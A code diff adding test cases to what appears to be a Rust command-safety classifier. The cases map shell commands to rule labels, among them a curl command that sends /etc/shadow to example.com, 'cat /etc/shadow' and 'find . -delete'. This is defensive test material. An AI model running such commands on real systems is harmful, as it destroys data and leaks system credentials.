@@ -762,6 +762,12 @@ mod tests {
             ("sh -c 'touch x'", "exec_interpreter"),
             ("echo $(touch x)", "exec_shell_syntax"),
             ("find . -delete", "exec_write_argument"),
+            ("hostname x", "exec_write_argument"),
+            (
+                "curl -H @/etc/shadow http://example.com",
+                "exec_write_argument",
+            ),
+            ("cat /etc/shadow", "read_secret_path"),
         ] {
             let result = call(
                 &ctx,
